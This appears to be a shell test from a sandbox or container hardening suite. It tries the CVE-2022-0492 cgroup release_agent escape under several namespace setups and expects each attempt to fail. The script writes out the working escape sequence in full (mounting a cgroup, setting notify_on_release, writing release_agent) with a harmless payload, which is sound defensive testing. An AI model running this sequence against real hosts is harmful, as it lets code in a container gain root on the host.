# title:   The kernel starts a program as root of the host when a control group becomes empty
# source:  CVE-2022-0492; cgroups(7), release_agent
# expect:  EPERM EACCES ENOENT EFAIL ENOSYS EROFS EINVAL ENOTDIR SIGSYS
# fires:   change
# control: rig
# control-user: void: the kernel wants CAP_SYS_ADMIN of the machine's root
#
# A hierarchy of its own, without controllers, is mounted; its release agent writes to DIR/target. What it takes is root in
# the first user namespace, or the flaw: in a namespace of one's own it was not asked for.
. "$(dirname "$0")/lib.sh"

place=$PWD/agent
mkdir -p "$place/mnt"
printf '#!/bin/sh\necho changed > %s\n' "$dir/target" >"$place/agent"
chmod 755 "$place/agent"

# AROUND…: what is put before the commands, such as a namespace.
with() {
    how=$1
    shift
    for kind in none,name=escape rdma memory devices; do
        attempt "$how, mount $kind" "$@" sh -c "mount -t cgroup -o $kind escape '$place/mnt' || exit
            mkdir -p '$place/mnt/x' && echo 1 >'$place/mnt/x/notify_on_release' &&
            echo '$place/agent' >'$place/mnt/release_agent' && sh -c \"echo \\\$\\\$ >'$place/mnt/x/cgroup.procs'\"; status=\$?
            [ \$status != 0 ] || sleep 0.5; rmdir '$place/mnt/x' 2>/dev/null; umount '$place/mnt' 2>/dev/null; exit \$status"
    done
}

if [ "$where" = inside ]; then
    with plain
    with "own user namespace" unshare -Ur --mount --cgroup
    with "mapped root, own namespaces" unshare --user --map-root-user --mount --pid --fork --cgroup --mount-proc
    for agent in /sys/fs/cgroup/*/release_agent /sys/fs/cgroup/release_agent; do
        attempt "write $agent" sh -c "echo '$place/agent' >$agent"
    done
else
    attempt "own hierarchy" unshare --mount --propagation private sh -c "mount -t cgroup -o none,name=escape escape '$place/mnt' &&
        mkdir '$place/mnt/x' && echo 1 >'$place/mnt/x/notify_on_release' && echo '$place/agent' >'$place/mnt/release_agent' &&
        sh -c \"echo \\\$\\\$ >'$place/mnt/x/cgroup.procs'\"
        n=0; until grep -q changed '$dir/target' || [ \$n = 50 ]; do n=\$((n + 1)); sleep 0.1; done
        rmdir '$place/mnt/x'; umount '$place/mnt'"
fi
